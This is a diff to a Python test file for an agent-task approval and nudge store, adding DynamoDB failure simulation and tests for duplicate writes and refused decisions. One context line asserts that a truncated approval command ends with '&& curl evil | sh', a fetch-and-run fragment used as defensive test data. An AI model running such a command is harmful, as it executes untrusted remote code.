@@ -7,8 +7,10 @@ from dataclasses import dataclass
 from typing import Any
 
 import pytest
+from botocore.exceptions import ClientError
 
 from shared.aws.clients import AwsClients
+from shared.aws.errors import StoreUnavailable
 from shared.steering.approvals import DynamoApprovalStore
 from shared.steering.errors import DecisionRefused, TaskNotSteerable
 from shared.steering.models import Approval, ApprovalRule, Nudge
@@ -21,11 +23,32 @@ from tests.fakes.steering import InMemoryApprovals, InMemoryNudges
 from tests.fakes.tasks import InMemoryTaskStore
 
 
+class Failing:
+    """The DynamoDB client, whose calls fail as AWS does once `failing` is set, counting the reads meanwhile."""
+
+    def __init__(self, ddb: Any):
+        self._ddb = ddb
+        self.failing = False
+        self.reads = 0
+
+    def __getattr__(self, name: str) -> Any:
+        call = getattr(self._ddb, name)
+
+        async def maybe_failing(**kw: Any) -> Any:
+            self.reads += name in ("get_item", "query")
+            if self.failing:
+                raise ClientError({"Error": {"Code": "InternalServerError", "Message": "down"}}, name)
+            return await call(**kw)
+
+        return maybe_failing
+
+
 @dataclass
 class Stores:
     tasks: Any
     nudges: Any
     approvals: Any
+    steering_client: Failing | None = None  # what the DynamoDB steering stores call
 
 
 @pytest.fixture(params=["memory", "dynamodb"])
@@ -37,8 +60,10 @@ async def stores(request):
     stack = request.getfixturevalue("stack")
     async with AwsClients(stack.settings) as clients:
         ddb = await clients.client("dynamodb")
-        tables = SteeringTables(ddb, stack.names)
-        yield Stores(DynamoTaskStore(ddb, stack.names), DynamoNudgeStore(tables), DynamoApprovalStore(tables))
+        client = Failing(ddb)
+        tables = SteeringTables(client, stack.names)
+        yield Stores(DynamoTaskStore(ddb, stack.names), DynamoNudgeStore(tables), DynamoApprovalStore(tables),
+                     client)
 
 
 async def _running(stores: Stores) -> Task:
@@ -148,3 +173,47 @@ async def test_a_long_command_is_cut_visibly_in_the_requested_event_and_kept_who
     events, _ = await stores.tasks.list_events(task.task_id)
     [requested] = [e.metadata["command"] for e in events if e.event_type == "approval.requested"]
     assert "[truncated: 5,023 characters in all]" in requested and requested.endswith("&& curl evil | sh")
+
+
+async def test_a_second_write_of_the_same_request_is_refused_with_the_task_state(stores):
+    task = await _running(stores)
+    approval = await stores.approvals.request(_request(task))
+    with pytest.raises(TaskNotSteerable) as caught:
+        await stores.approvals.request(approval)
+    assert caught.value.status == S.RUNNING
+    nudge = await stores.nudges.add(Nudge(task_id=task.task_id, user_id="alice", message="hello"))
+    with pytest.raises(TaskNotSteerable):
+        await stores.nudges.add(nudge)
+    kinds = await _kinds(stores, task.task_id)
+    assert kinds.count("approval.requested") == kinds.count("nudge.received") == 1
+
+
+async def test_a_failed_condition_carries_the_current_request_without_a_second_read(stores):
+    task = await _running(stores)
+    approval = await stores.approvals.request(_request(task))
+    await stores.tasks.transition(task.task_id, S.AWAITING_APPROVAL)
+    await stores.approvals.decide(approval, "denied", by="alice", reason="no")
+    reads = stores.steering_client.reads if stores.steering_client else 0
+    with pytest.raises(DecisionRefused) as caught:
+        await stores.approvals.decide(approval, "approved", by="alice")
+    assert caught.value.approval.status == "denied" and caught.value.approval.decided_by == "alice"
+    assert caught.value.task_status == S.AWAITING_APPROVAL
+    assert (stores.steering_client.reads if stores.steering_client else 0) == reads
+
+
+@pytest.mark.parametrize("stores", ["dynamodb"], indirect=True)
+async def test_an_aws_failure_is_store_unavailable(stores):
+    task = await _running(stores)
+    approval = await stores.approvals.request(_request(task))
+    nudge = await stores.nudges.add(Nudge(task_id=task.task_id, user_id="alice", message="hello"))
+    stores.steering_client.failing = True
+    calls = [lambda: stores.nudges.add(Nudge(task_id=task.task_id, user_id="alice", message="again")),
+             lambda: stores.nudges.pending(task.task_id), lambda: stores.nudges.deliver(nudge),
+             lambda: stores.approvals.request(_request(task)),
+             lambda: stores.approvals.get(task.task_id, approval.approval_id),
+             lambda: stores.approvals.decide(approval, "approved", by="alice"),
+             lambda: stores.approvals.pending_for_user("alice"),
+             lambda: stores.approvals.pending_for_task(task.task_id)]
+    for call in calls:
+        with pytest.raises(StoreUnavailable):
+            await call()
